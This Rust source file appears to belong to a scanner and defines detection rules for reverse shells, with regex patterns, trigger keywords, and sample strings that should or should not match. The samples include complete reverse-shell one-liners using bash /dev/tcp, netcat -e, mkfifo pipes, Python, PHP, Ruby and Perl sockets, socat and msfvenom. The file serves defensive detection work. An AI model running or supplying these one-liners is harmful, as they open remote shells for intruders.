//! Shells that call home.

use super::{CODE, unless_discussed};
use crate::detect::{
    rule::{Rule, Wake},
    validate::Candidate,
};
use crate::domain::finding::Severity;

const SHELL: Rule =
    Rule { entity: "reverse_shell", severity: Severity::Critical, score: 0.95, validate: Some(told), ..CODE };

/// Answers about such lines quote them too, after a word of warning.
fn told(candidate: &Candidate<'_>) -> Option<f32> {
    Some(unless_discussed(candidate, 0.95))
}

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "revshell_dev_tcp",
        wake: Wake::Keywords(&["/dev/tcp/", "/dev/udp/"]),
        pattern: r"(?:(?-u:\b)(?:ba|z|k)?sh(?: -[a-z]{1,2})? {0,2}[<>0-9&]{1,4} {0,2}|exec {1,2}\d{0,3} {0,2}<?>{1,2}&? {0,2}|(?:>&?|<>?|&>) {0,2})/dev/(?:tcp|udp)/[^\s/]{1,80}/[0-9$]",
        matches: &["bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "exec 5<>/dev/tcp/a.example/443"],
        misses: &["Bash knows /dev/tcp/host/port", "ls /dev/tcp"],
        ..SHELL
    },
    Rule {
        id: "revshell_netcat",
        wake: Wake::Keywords(&["nc ", "ncat ", "netcat ", "nc.exe"]),
        pattern: r"(?-u:\b)(?:nc|ncat|netcat|nc\.traditional|nc\.exe) (?:[^\n|;]{0,80} )?(?:-[a-z]{0,6}e|--exec|--sh-exec|-[a-z]{0,6}c) {1,2}[\x22']?(?:/(?:usr/)?bin/)?(?:ba|z|da)?(?:sh|cmd(?:\.exe)?|powershell)|(?-u:\b)(?:nc|ncat|netcat) [^\n|]{1,80}\| {0,2}/bin/(?:ba)?sh(?-u:\b)",
        matches: &[
            "nc -e /bin/sh 198.51.100.7 4444",
            "ncat a.example 443 --exec /bin/bash",
            "nc.exe -e cmd.exe a.example 443",
        ],
        misses: &["nc -l 8080", "nc -zv a.example 22", "nc a.example 80 -c"],
        ..SHELL
    },
    Rule {
        id: "revshell_fifo",
        wake: Wake::Keywords(&["mkfifo", "mknod"]),
        pattern: r"(?-u:\b)(?:mkfifo|mknod) [^\n]{1,120}(?:(?:ba|z|da)?sh -i|/bin/(?:ba)?sh)[^\n]{0,80}\| {0,2}(?:nc|ncat|netcat|telnet|openssl)(?-u:\b)|(?-u:\b)mknod [^\n]{1,60} p[^\n]{1,80}(?:nc|telnet)[^\n]{1,60}/bin/(?:ba)?sh",
        matches: &["rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f"],
        misses: &["mkfifo /tmp/pipe && cat < /tmp/pipe", "mknod /dev/null c 1 3"],
        ..SHELL
    },
    Rule {
        id: "revshell_script",
        wake: Wake::Keywords(&["socket", "fsockopen", "tcpclient", "net.connect", "net.dial", "io::socket"]),
        pattern: r#"(?i)(?:socket\.socket\([\x00-\x7f]{0,300}(?:os\.dup2|pty\.spawn|subprocess\.(?:call|Popen|run)\(\s{0,2}\[?\s{0,2}["']/bin/)|(?:os\.dup2|pty\.spawn)\([\x00-\x7f]{0,200}\.connect\(|fsockopen\s{0,2}\([\x00-\x7f]{0,160}(?:exec|shell_exec|proc_open|system|passthru|popen)\s{0,2}\(|socket\([\x00-\x7f]{0,200}(?:open\(STDIN|exec\s{0,2}\(?\{?["']/bin/(?:ba)?sh)|TCPSocket\.(?:new|open)\([\x00-\x7f]{0,200}(?:/bin/(?:ba)?sh|IO\.popen|exec)|TCPClient\([\x00-\x7f]{0,400}(?:GetStream|StreamReader)[\x00-\x7f]{0,400}(?:iex|Invoke-Expression|cmd\.exe)|net\.connect\([\x00-\x7f]{0,200}\.pipe\([a-z]{1,12}\.stdin|net\.Dial\([\x00-\x7f]{0,200}exec\.Command\(\s{0,2}["'](?:/bin/(?:ba)?sh|cmd)|spawn\([\x22'](?:/bin/)?(?:ba)?sh[\x22'][ -~]{0,80}TCPSocket|socket[ -~]{0,200}os\.execute\([\x22']/bin/(?:ba)?sh|IO::Socket::INET[\x00-\x7f]{0,200}(?:exec|system|/bin/sh))"#,
        reach: 1500,
        matches: &[
            "python -c 'import socket,os;s=socket.socket();s.connect((\"198.51.100.7\",4444));os.dup2(s.fileno(),0)'",
            "php -r '$s=fsockopen(\"198.51.100.7\",4444);exec(\"/bin/sh -i <&3 >&3\");'",
            "ruby -rsocket -e 'f=TCPSocket.open(\"198.51.100.7\",4444);exec \"/bin/sh\"'",
            "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
        ],
        misses: &[
            "s = socket.socket(); s.bind(('', 0)); s.listen()",
            "new WebSocket('wss://a.example')",
            "TCPSocket.new('a.example', 80)",
        ],
        ..SHELL
    },
    Rule {
        id: "revshell_tools",
        wake: Wake::Keywords(&["socat", "telnet", "msfvenom", "meterpreter", "openssl s_client", "busybox nc"]),
        pattern: r#"(?i)(?-u:\b)(?:socat [^\n]{0,120}exec:["']?[^\n]{0,40}(?:sh|cmd)(?-u:\b)|telnet [^\n|]{1,80}\| {0,2}/bin/(?:ba)?sh|msfvenom -p [a-z]|(?:windows|linux|php|python|java)/[a-z0-9/]{0,16}meterpreter/reverse_|/bin/(?:ba)?sh[^\n]{0,60}\| {0,2}openssl s_client)"#,
        matches: &["socat TCP:198.51.100.7:4444 EXEC:/bin/bash,pty", "msfvenom -p linux/x64/shell_reverse_tcp -f elf"],
        misses: &["socat TCP-LISTEN:80,fork TCP:web:8080", "telnet a.example 25"],
        ..SHELL
    },
];
